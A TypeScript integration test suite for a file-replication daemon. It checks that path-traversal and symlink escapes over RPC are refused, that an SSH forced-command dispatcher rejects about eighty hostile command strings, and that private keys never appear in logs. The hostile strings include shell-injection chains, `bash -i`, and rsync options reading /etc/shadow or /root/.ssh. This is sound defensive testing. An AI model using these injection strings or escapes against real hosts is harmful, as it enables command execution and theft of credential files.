// Reliability 6 - security, with real parts:
//  1. path escapes over a real RPC session: the built `gsyncd --slave DIR` as a child, driven by
//     src/transport/rpc.ts's RpcClient as a master would (or a hostile one): `..`, absolute
//     paths, symlinks leading out (as a parent and as the directory listed), NUL, over-long
//     names and paths, non-byte characters - for list, readMark and every apply op. Each is
//     refused with GSYNCD_ERR_UNSAFE_PATH, the session stays up, and nothing outside DIR changes
//     or is revealed;
//  2. the forced command (`gsyncd --dispatch --root DIR` in authorized_keys of a real sshd in
//     namespace B) lets through nothing but slave mode and validated `rsync --server`: a list of
//     hostile SSH_ORIGINAL_COMMAND values (`;`, `&&`, `|`, `$(...)`, backticks, newlines,
//     `rsync --sender`, `-e`, `--rsync-path`, filter/files-from/log-file options, `../` and
//     symlinked targets...) is refused, and none of their side effects happens;
//  3. secrets never reach a log: sessions at --log-level trace and debug with a passphrase-free
//     identity whose private key text is known - a good run, an unauthorized key, an unknown host
//     key, a refused connection - and every log (master stdout/stderr, --log-file, slave and
//     dispatcher lines relayed by the master, sshd's log, state.json, `gsyncd status --json`)
//     is searched for the key body, its PEM armour and its bytes.
// (An unknown or changed host key is refused: test/integration/remote-slave.test.ts.)
// Subnet blocks 224 and 225 (docs/testing.md).
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { getAttributeSync, listAttributesSync, setAttributeSync } from '@napi-rs/xattr';
import { isGsyncdError } from '../../src/core/errors.js';
import type { EntryOp, OpResult } from '../../src/core/ops.js';
import { slaveMarkKey } from '../../src/gluster/xattr-names.js';
import { encodeFrame, FrameDecoder } from '../../src/protocol/frame.js';
import { RpcClient } from '../../src/transport/rpc.js';
import { gsyncd, GSYNCD_BIN } from '../support/gsyncd.js';
import { twoHosts } from '../support/netns.js';
import { freePort, requireRoot, requireTools, sleep, testCleanup, tmpDir } from '../support/proc.js';
import { sshKeygen, type Sshd } from '../support/sshd.js';
import { makeSmallFiles } from '../support/workload.js';
import { converge, remoteSession, stopRun } from './lib.js';

const MARK = slaveMarkKey('11111111-2222-4333-8444-555555555555');
const PLANTED = { sec: 1_234_567_890, usec: 424_242 };

/** Everything observable about a tree: names, types, modes, owners, sizes, times, content, xattrs, link targets. */
function fingerprint(root: string): string {
  const out: string[] = [];
  const visit = (rel: string) => {
    const abs = rel ? path.join(root, rel) : root;
    const st = fs.lstatSync(abs, { bigint: true });
    let extra = '';
    if (st.isSymbolicLink()) extra = `-> ${fs.readlinkSync(abs)}`;
    else if (st.isFile()) extra = createHash('sha256').update(fs.readFileSync(abs)).digest('hex');
    let xattrs = '';
    try { xattrs = listAttributesSync(abs).sort().map((k) => `${k}=${getAttributeSync(abs, k)?.toString('hex')}`).join(','); } catch { xattrs = '?'; }
    out.push(`${rel || '.'} mode=${st.mode.toString(8)} uid=${st.uid} gid=${st.gid} size=${st.size} mtime=${st.mtimeNs} ino=${st.ino} ${extra} [${xattrs}]`);
    if (st.isDirectory()) for (const n of fs.readdirSync(abs).sort()) visit(rel ? `${rel}/${n}` : n);
  };
  visit('');
  return out.join('\n');
}

/** A slave root with bait: symlinks inside it that lead out, and a victim tree outside. */
function sandbox(base: string): { root: string; outside: string; base: string } {
  const root = path.join(base, 'root');
  const outside = path.join(base, 'outside');
  fs.mkdirSync(path.join(outside, 'victimdir'), { recursive: true });
  fs.writeFileSync(path.join(outside, 'victim.txt'), 'do not touch\n');
  fs.writeFileSync(path.join(outside, 'victimdir', 'secret'), 'do not read\n');
  fs.mkdirSync(path.join(root, 'sub'), { recursive: true });
  fs.writeFileSync(path.join(root, 'sub', 'inside.txt'), 'inside\n');
  fs.symlinkSync('../outside', path.join(root, 'out'));
  fs.symlinkSync(outside, path.join(root, 'abs-out'));
  fs.symlinkSync('../outside/victim.txt', path.join(root, 'outfile'));
  fs.symlinkSync('../outside/not-yet', path.join(root, 'dangling'));
  fs.symlinkSync('../../outside', path.join(root, 'sub', 'deeplink'));
  return { root, outside, base };
}

test('path escapes are refused over a real RPC session with `gsyncd --slave DIR`; nothing outside DIR changes or is revealed', { timeout: 120_000 }, async (t) => {
  requireRoot();
  const stack = testCleanup(t);
  const box = sandbox(await tmpDir('sec-rpc', stack));
  // A mark on the outside directories (as if another session had stamped them): reading it
  // through a link would be a leak.
  const planted = Buffer.alloc(8);
  planted.writeUInt32BE(PLANTED.sec, 0);
  planted.writeUInt32BE(PLANTED.usec, 4);
  for (const d of [box.outside, path.join(box.outside, 'victimdir')]) setAttributeSync(d, MARK, planted);
  const outsideBefore = fingerprint(box.outside);
  const baseBefore = fs.readdirSync(box.base).sort();

  const child = spawn(process.execPath, [GSYNCD_BIN, '--slave', '--timeout', '60', '--log-level', 'debug', box.root], { stdio: ['pipe', 'pipe', 'pipe'] });
  let stderr = '';
  child.stderr.setEncoding('utf8').on('data', (d: string) => { stderr += d; });
  const exited = new Promise<number | null>((r) => child.on('close', (c) => r(c)));
  stack.defer('kill the slave', () => { child.kill('SIGKILL'); });
  const rpc = new RpcClient(child.stdout, child.stdin, { timeoutMs: 20_000 });
  const hello = await rpc.hello({ session: 'security' });
  assert.equal(hello.rsyncTarget, fs.realpathSync(box.root));

  const long255 = 'n'.repeat(255);
  const escapes: [string, string][] = [
    ['..', 'path_escape'], ['../outside', 'path_escape'], ['../outside/victim.txt', 'path_escape'], ['sub/../../outside', 'path_escape'],
    ['sub/..', 'path_escape'], ['/etc', 'absolute_path'], [`${box.outside}/victim.txt`, 'absolute_path'], ['/', 'absolute_path'],
    ['out/victim.txt', 'symlink_escape'], ['out/victimdir/secret', 'symlink_escape'], ['out/new-file', 'symlink_escape'],
    ['abs-out/victim.txt', 'symlink_escape'], ['sub/deeplink/victim.txt', 'symlink_escape'], ['dangling/x', 'symlink_escape'], ['outfile/x', 'symlink_escape'],
    ['a\0b', 'nul_byte'], ['\0', 'nul_byte'], ['sub/inside.txt\0../../x', 'nul_byte'],
    [`${long255}n`, 'bad_path'], [`${'d'.repeat(200)}/`.repeat(21) + 'x', 'bad_path'], ['sub/./x', 'bad_path'], ['sub//x', 'bad_path'], ['.', 'bad_path'],
    ['sub/', 'bad_path'], ['ok\u0100', 'bad_path'], ['\u{1F4A9}', 'bad_path'],
  ];
  // Directories that ARE symlinks out: listing or reading them through the link reveals or
  // touches what is outside.
  const symlinkDirs = ['out', 'abs-out', 'sub/deeplink', 'outfile'];
  const problems: string[] = [];
  const refusedCall = async (what: string, p: Promise<unknown>, reason?: string) => {
    try {
      const r = await p;
      problems.push(`${what}: answered ${JSON.stringify(r)?.slice(0, 300)} instead of a refusal`);
    } catch (err) {
      if (!isGsyncdError(err, 'GSYNCD_ERR_UNSAFE_PATH')) problems.push(`${what}: failed with ${(err as { code?: string }).code} ${(err as Error).message} instead of GSYNCD_ERR_UNSAFE_PATH`);
      else if (reason && (err as { refusal?: string }).refusal !== reason) problems.push(`${what}: refused as ${(err as { refusal?: string }).refusal}, expected ${reason}`);
    }
  };
  let calls = 0;
  for (const [p, reason] of escapes) {
    calls += 2;
    await refusedCall(`list ${JSON.stringify(p)}`, rpc.call('list', { dir: p, markKey: MARK }), reason);
    await refusedCall(`readMark ${JSON.stringify(p)}`, rpc.call('readMark', { dir: p, markKey: MARK }), reason);
  }
  // A symlink as the directory itself: refused, or answered as what it is inside DIR (not a
  // directory: null) - never with what is behind it.
  const outsideNames = new Set(fs.readdirSync(box.outside));
  for (const p of symlinkDirs) {
    calls += 2;
    try {
      const r = await rpc.call<{ name: string }[] | null>('list', { dir: p, markKey: MARK });
      const leaked = (r ?? []).filter((e) => outsideNames.has(e.name));
      if (leaked.length) problems.push(`list of the symlink ${JSON.stringify(p)} revealed the directory outside DIR: ${JSON.stringify(r).slice(0, 300)}`);
    } catch (err) {
      if (!isGsyncdError(err, 'GSYNCD_ERR_UNSAFE_PATH')) problems.push(`list of the symlink ${JSON.stringify(p)}: ${(err as Error).message}`);
    }
    try {
      const r = await rpc.call<{ sec: number; usec: number } | null>('readMark', { dir: p, markKey: MARK });
      if (r && r.sec === PLANTED.sec && r.usec === PLANTED.usec) problems.push(`readMark of the symlink ${JSON.stringify(p)} read the mark of the directory outside DIR`);
    } catch (err) {
      if (!isGsyncdError(err, 'GSYNCD_ERR_UNSAFE_PATH')) problems.push(`readMark of the symlink ${JSON.stringify(p)}: ${(err as Error).message}`);
    }
  }
  const me = { uid: 0, gid: 0 };
  for (const [p, reason] of escapes) {
    const ops: EntryOp[] = [
      { op: 'mkdir', path: p, mode: 0o777, ...me },
      { op: 'rename', from: 'sub/inside.txt', to: p },
      { op: 'rename', from: p, to: 'stolen' },
      { op: 'link', existing: p, path: 'stolen-link' },
      { op: 'link', existing: 'sub/inside.txt', path: p },
      { op: 'delete', path: p, type: 'file' },
      { op: 'delete', path: p, type: 'dir' },
      { op: 'setattr', path: p, mode: 0o777, uid: 4321, gid: 4321, mtime: [1, 0] },
      { op: 'mark', path: p, xtime: { sec: 1, usec: 2 } },
    ];
    calls += ops.length;
    const results = await rpc.call<OpResult[]>('apply', { ops, markKey: MARK });
    results.forEach((r, i) => {
      const op = ops[i]!;
      if (r.ok) problems.push(`apply ${op.op} ${JSON.stringify(op).slice(0, 200)} succeeded`);
      else if (r.errno !== 'GSYNCD_ERR_UNSAFE_PATH') problems.push(`apply ${op.op} on ${JSON.stringify(p).slice(0, 80)}: ${r.errno} ${r.message.slice(0, 120)} instead of GSYNCD_ERR_UNSAFE_PATH`);
      else if (!r.message.includes(`(${reason})`)) problems.push(`apply ${op.op} on ${JSON.stringify(p).slice(0, 80)}: refused but not as ${reason}: ${r.message.slice(0, 120)}`);
    });
  }
  // Ops on the symlinks themselves are inside DIR (they replace or re-time the link, never
  // follow it); whatever they do, the outside must stay as it was.
  const onLinks: EntryOp[] = symlinkDirs.flatMap((p) => [
    { op: 'setattr', path: p, mode: 0o777, uid: 4321, gid: 4321, mtime: [1, 0] },
    { op: 'mark', path: p, xtime: { sec: 7, usec: 8 } },
  ] as EntryOp[]).concat(
    { op: 'link', existing: 'outfile', path: 'hardlink-to-symlink' },
    { op: 'delete', path: 'out', type: 'dir' },
    { op: 'rename', from: 'abs-out', to: 'sub/moved-link' },
    { op: 'delete', path: 'sub/moved-link', type: 'dir' },
    { op: 'mkdir', path: 'dangling', mode: 0o700, ...me },
  );
  calls += onLinks.length;
  await rpc.call('apply', { ops: onLinks, markKey: MARK });
  assert.equal(((await rpc.call('keepAlive')) as { count: number }).count >= 1, true, 'the session is still up after all the refusals');

  rpc.close();
  assert.equal(await exited, 0, 'EOF ends the session with status 0');
  assert.equal(fingerprint(box.outside), outsideBefore, 'nothing outside DIR changed (contents, modes, owners, times, xattrs)');
  assert.deepEqual(fs.readdirSync(box.base).sort(), baseBefore, 'nothing was created next to DIR');
  const warns = stderr.split('\n').filter((l) => l.includes('"level":40') && l.includes('unsafe path refused')).length;
  assert.ok(warns > 0, 'refusals are logged (warn, with their reason)');
  assert.doesNotMatch(stderr, /do not read|do not touch/, 'no content of the outside files in the slave log');
  t.diagnostic(`${calls} hostile calls/ops, ${warns} refusals logged`);
  assert.deepEqual(problems, [], 'every escape refused');
});

/** ssh through `sshd` from namespace prefix, binary-safe stdin/stdout. */
function sshRaw(sshd: Sshd, prefix: readonly string[], command: string, input: Buffer): Promise<{ code: number | null; stdout: Buffer; stderr: string }> {
  const argv = [...prefix, 'ssh', ...sshd.sshArgs(), '--', command];
  return new Promise((resolve, reject) => {
    const c = spawn(argv[0]!, argv.slice(1), { stdio: ['pipe', 'pipe', 'pipe'] });
    const out: Buffer[] = [];
    let err = '';
    c.stdout.on('data', (b: Buffer) => out.push(b));
    c.stderr.setEncoding('utf8').on('data', (d: string) => { err += d; });
    const timer = setTimeout(() => c.kill('SIGKILL'), 30_000);
    c.on('error', reject);
    c.on('close', (code) => { clearTimeout(timer); resolve({ code, stdout: Buffer.concat(out), stderr: err }); });
    c.stdin.on('error', () => {});
    c.stdin.end(input);
  });
}

test('the forced command runs nothing but slave mode and validated rsync --server (real sshd)', { timeout: 180_000 }, async (t) => {
  requireRoot();
  requireTools(['/usr/sbin/sshd', 'ssh', 'rsync']);
  const stack = testCleanup(t);
  const hosts = await twoHosts(224, { cleanup: stack });
  const box = sandbox(await tmpDir('sec-dispatch', stack));
  const dir = box.root;
  const mark = path.join(box.base, 'PWNED');
  await hosts.sshd.setAuthorizedKey(`command="${process.execPath} ${GSYNCD_BIN} --dispatch --root ${dir}",restrict ${hosts.sshd.clientKeyPub}`);
  const outsideBefore = fingerprint(box.outside);
  const rootBefore = fingerprint(box.root);
  const R = 'rsync --server -vlogDtpre.iLsfxC';
  const hostile = [
    `gsyncd --slave ${dir}; touch ${mark}`,
    `gsyncd --slave ${dir};touch ${mark}`,
    `gsyncd --slave ${dir} && touch ${mark}`,
    `gsyncd --slave ${dir} || touch ${mark}`,
    `gsyncd --slave ${dir} | touch ${mark}`,
    `gsyncd --slave $(touch ${mark})`,
    `gsyncd --slave \`touch ${mark}\``,
    `gsyncd --slave ${dir}\ntouch ${mark}`,
    `gsyncd --slave ${dir} > ${mark}`,
    `touch ${mark}`,
    `sh -c 'touch ${mark}'`,
    `/bin/sh -c "touch ${mark}"`,
    `bash -i`,
    `exec touch ${mark}`,
    `env touch ${mark}`,
    `gsyncd --slave --log-file=${mark} ${dir}`,
    `gsyncd --slave --log-file ${mark} ${dir}`,
    `gsyncd --slave --rsync-command=touch ${dir}`,
    `gsyncd --slave --config-set rsync-command evil ${dir}`,
    `gsyncd --slave -c ${mark} ${dir}`,
    `gsyncd --slave --pid-file ${mark} ${dir}`,
    `gsyncd --dispatch --root /`,
    `gsyncd --config-set rsync-command evil`,
    `gsyncd ${dir} ssh://root@evil:/x`,
    `gsyncd --slave ${dir} ${box.outside}`,
    `rsync --server --sender -vlogDtpre.iLsfxC . ${box.outside}/victim.txt`,
    `rsync --server --sender -vlogDtpre.iLsfxC . ${dir}/`,
    `${R} -e 'sh -c touch ${mark}' . ${dir}/`,
    `rsync --server -vlogDtpr -e sh . ${dir}/`,
    `rsync --server -vlogDtpre.iLsfxC --rsh=sh . ${dir}/`,
    `${R} --rsync-path=touch . ${dir}/`,
    `${R} --rsync-path ${mark} . ${dir}/`,
    `${R} . ${dir}/../`,
    `${R} . ${dir}/..`,
    `${R} . ${dir}/../outside/`,
    `${R} . ${dir}/sub/../../outside`,
    `${R} . /etc/`,
    `${R} . /root/.ssh/`,
    `${R} . ../outside/`,
    `${R} . ${dir}/out/`,
    `${R} . ${dir}/out`,
    `${R} . ${dir}/abs-out/victimdir/`,
    `${R} . ${dir}/sub/deeplink/`,
    `${R} . ${dir}/outfile`,
    `${R} . ${dir}/dangling/`,
    `${R} . ${dir}/ ${box.outside}/`,
    `${R} --log-file=${mark} . ${dir}/`,
    `${R} --log-file ${mark} . ${dir}/`,
    `${R} --temp-dir=${box.outside} . ${dir}/`,
    `${R} --temp-dir=../../outside . ${dir}/`,
    `${R} --partial-dir=../../outside . ${dir}/`,
    `${R} --backup-dir=${box.outside} -b . ${dir}/`,
    `${R} --files-from=/etc/shadow . ${dir}/`,
    `${R} --include-from=/etc/shadow . ${dir}/`,
    `${R} --exclude-from=/etc/shadow . ${dir}/`,
    `${R} --filter=merge\\ /etc/shadow . ${dir}/`,
    `${R} -f merge /etc/shadow . ${dir}/`,
    `${R} --copy-dest=/etc . ${dir}/`,
    `${R} --link-dest=/ . ${dir}/`,
    `${R} --compare-dest=/etc . ${dir}/`,
    `${R} --chown=0:0 --chmod=u+s . ${dir}/`,
    `${R} --write-devices . ${dir}/`,
    `${R} --keep-dirlinks . ${dir}/`,
    `rsync --server -vlogDtpreK.iLsfxC . ${dir}/`,
    `rsync --server -s -vlogDtpre.iLsfxC . ${dir}/`,
    `${R} --protect-args . ${dir}/`,
    `${R} --daemon . ${dir}/`,
    `rsync --daemon`,
    `rsync --server --daemon .`,
    `rsync ${box.outside}/victim.txt ${dir}/`,
    `rsync -e sh host:/etc/passwd ${dir}/`,
    `${R} --only-write-batch=${mark} . ${dir}/`,
    `${R} --config=${mark} . ${dir}/`,
    `${R} --remote-option=--log-file=${mark} . ${dir}/`,
    `${R} -M--log-file=${mark} . ${dir}/`,
    `scp -t ${dir}`,
    `internal-sftp`,
    ``,
  ];
  const problems: string[] = [];
  for (const cmd of hostile) {
    const r = await hosts.sshd.ssh([cmd], { prefix: hosts.a.execPrefix, timeoutMs: 30_000, input: '' });
    const refused = r.code !== 0 && /gsyncd: refused: /.test(r.stderr);
    if (!refused) problems.push(`${JSON.stringify(cmd)}: exit ${r.code}, stderr ${JSON.stringify(r.stderr.trim().slice(0, 200))}`);
    if (fs.existsSync(mark)) { problems.push(`${JSON.stringify(cmd)}: created ${mark}`); fs.rmSync(mark, { recursive: true, force: true }); }
  }
  assert.equal(fingerprint(box.outside), outsideBefore, 'nothing outside the slave root changed');
  assert.equal(fingerprint(box.root), rootBefore, 'refused commands changed nothing inside the root either');
  // Controls: what is allowed runs, confined to the configured root.
  const helloFrame = encodeFrame({ id: 1, method: 'hello', params: { protocol: 1, client: 'gsyncd' } });
  for (const cmd of [`gsyncd --slave ${dir}`, 'gsyncd --slave /etc', `gsyncd.js --slave --timeout 30 ${box.outside}`]) {
    const r = await sshRaw(hosts.sshd, hosts.a.execPrefix, cmd, helloFrame);
    const replies = new FrameDecoder().push(r.stdout);
    const target = (replies[0] as { result?: { rsyncTarget?: string } } | undefined)?.result?.rsyncTarget;
    if (target !== fs.realpathSync(dir)) problems.push(`${JSON.stringify(cmd)} (allowed) served ${target ?? `nothing (exit ${r.code}: ${r.stderr.trim().slice(0, 200)})`} instead of the configured root`);
  }
  const allowed = await hosts.sshd.ssh([`${R} . ${dir}/sub/`], { prefix: hosts.a.execPrefix, timeoutMs: 30_000, input: '' });
  if (/refused/.test(allowed.stderr)) problems.push(`a valid rsync --server into the root was refused: ${allowed.stderr.trim()}`);
  t.diagnostic(`${hostile.length} hostile SSH_ORIGINAL_COMMAND values through sshd, 4 allowed controls`);
  assert.deepEqual(problems, [], 'every hostile command refused, no side effect, allowed ones confined to the root');
});

test('secrets never appear in logs (trace and debug, good and failing sessions)', { timeout: 200_000 }, async (t) => {
  requireRoot();
  const stack = testCleanup(t);
  const s = await remoteSession(225, stack);
  makeSmallFiles(s.masterDir, 50, 2, 500);
  const keyText = fs.readFileSync(s.hosts.sshd.clientKeyPath, 'utf8');
  const body = keyText.split('\n').filter((l) => l && !l.startsWith('-----'));
  assert.ok(keyText.includes('BEGIN OPENSSH PRIVATE KEY') && body.length >= 3, 'a passphrase-free OpenSSH private key with a known text');
  const keyBytes = fs.readFileSync(s.hosts.sshd.clientKeyPath);
  const joined = body.join('');
  const raw = Buffer.from(joined, 'base64');
  // The ed25519 seed: in the private section, `u32 32, public key, u32 64, seed, public key`.
  const pub = Buffer.from(fs.readFileSync(`${s.hosts.sshd.clientKeyPath}.pub`, 'utf8').split(' ')[1]!, 'base64').subarray(-32);
  let seed: Buffer | null = null;
  for (let i = raw.indexOf(pub); i >= 0 && !seed; i = raw.indexOf(pub, i + 1)) if (raw.length >= i + 68 && raw.readUInt32BE(i + 32) === 64) seed = raw.subarray(i + 36, i + 68);
  assert.ok(seed, 'found the private seed in the key file');
  /** Every way the key could show up in a text log. */
  const needles: [string, string][] = [
    ['BEGIN OPENSSH PRIVATE KEY', 'PEM armour'],
    ...body.map((l, i) => [l, `key body line ${i + 1}`] as [string, string]),
    ...Array.from({ length: Math.floor(joined.length / 40) }, (_, i) => [joined.slice(i * 40, i * 40 + 40), `key body chars ${i * 40}..${i * 40 + 40}`] as [string, string]),
    [JSON.stringify([...keyBytes.subarray(0, 24)]).slice(1, -1), 'key file bytes as a JSON array (a logged Buffer)'],
    [seed.toString('hex'), 'private seed as hex'],
    [seed.toString('base64').slice(0, 40), 'private seed as base64'],
    [JSON.stringify([...seed.subarray(0, 16)]).slice(1, -1), 'private seed bytes as a JSON array'],
  ];
  const logFile = path.join(s.stateDir, 'master-trace.log');
  const texts: { what: string; text: string }[] = [];

  // 1. A good session at trace level, logging to a file, with a change while it runs.
  let r = s.start(['--log-level', 'trace', '--log-file', logFile]);
  await converge(s.masterDir, s.slaveDir, 'the trace session', 60_000);
  fs.writeFileSync(path.join(s.masterDir, 'd0', 'late'), 'late change\n');
  await converge(s.masterDir, s.slaveDir, 'the trace session, second change', 60_000);
  texts.push({ what: 'status --json', text: (await gsyncd(['status', '--json', '--state-dir', s.stateDir, '--http-url', s.httpBase])).stdout });
  await stopRun(r);
  texts.push({ what: 'trace master stdout/stderr', text: r.output() }, { what: `--log-file ${logFile}`, text: fs.readFileSync(logFile, 'utf8') });
  // 2. Debug level to stdout.
  fs.writeFileSync(path.join(s.masterDir, 'd1', 'later'), 'later change\n');
  r = s.start(['--log-level', 'debug']);
  await converge(s.masterDir, s.slaveDir, 'the debug session', 60_000);
  await stopRun(r);
  texts.push({ what: 'debug master output', text: r.output() });
  // 3. Failing connections at trace level: a key the slave does not accept (also
  //    passphrase-free, also known text), an unknown host key, a refused port.
  const other = path.join(s.stateDir, 'other_ed25519');
  await sshKeygen(other, 'not-authorized');
  const otherText = fs.readFileSync(other, 'utf8');
  const otherBody = otherText.split('\n').filter((l) => l && !l.startsWith('-----'));
  needles.push(...otherBody.map((l, i) => [l, `unauthorized key body line ${i + 1}`] as [string, string]));
  const once = (extra: string[], url = s.slaveUrl) => gsyncd(['--once', '--log-level', 'trace', '--state-dir', s.stateDir, '--session-name', 'secrets-fail', ...extra, s.masterDir, url], { prefix: s.hosts.a.execPrefix, timeoutMs: 60_000 });
  const emptyKh = path.join(s.stateDir, 'empty_known_hosts');
  fs.writeFileSync(emptyKh, '');
  const port = await freePort();
  const failures = [
    { what: 'unauthorized key', res: await once(['--ssh-identity', other, '--ssh-known-hosts', s.hosts.sshd.knownHostsFile]) },
    { what: 'unknown host key', res: await once(['--ssh-identity', s.hosts.sshd.clientKeyPath, '--ssh-known-hosts', emptyKh]) },
    { what: 'refused port', res: await once(['--ssh-identity', s.hosts.sshd.clientKeyPath, '--ssh-known-hosts', s.hosts.sshd.knownHostsFile, '--connection-timeout', '5'], `ssh://root@${s.hosts.b.ip}:${port}:${s.slaveDir}`) },
  ];
  for (const f of failures) {
    assert.notEqual(f.res.code, 0, `${f.what} must fail`);
    texts.push({ what: `${f.what} (exit ${f.res.code})`, text: `${f.res.stdout}\n${f.res.stderr}` });
  }
  const stateDirFiles = (dir: string): string[] => fs.readdirSync(dir, { recursive: true, encoding: 'utf8' }).map((f) => path.join(dir, f)).filter((f) => fs.statSync(f).isFile() && !/_ed25519|known_hosts/.test(f));
  for (const f of stateDirFiles(s.stateDir)) texts.push({ what: f, text: fs.readFileSync(f, 'latin1') });
  await sleep(200);
  texts.push({ what: 'sshd log', text: fs.readFileSync(s.hosts.sshd.logFile, 'utf8') });

  const leaks: string[] = [];
  for (const { what, text } of texts) for (const [needle, name] of needles) if (needle && text.includes(needle)) leaks.push(`${name} in ${what}`);
  const bytes = texts.reduce((n, x) => n + x.text.length, 0);
  t.diagnostic(`searched ${texts.length} logs (${(bytes / 1024).toFixed(0)} KiB) for ${needles.length} fragments of two private keys`);
  assert.deepEqual(leaks, [], 'no private key material in any log');
  const verbose = texts.reduce((n, x) => n + (x.text.match(/"level":(10|20),/g)?.length ?? 0), 0);
  t.diagnostic(`${verbose} trace/debug lines among them`);
  assert.ok(verbose > 0, 'the verbose levels did log something (the search covered them)');
});
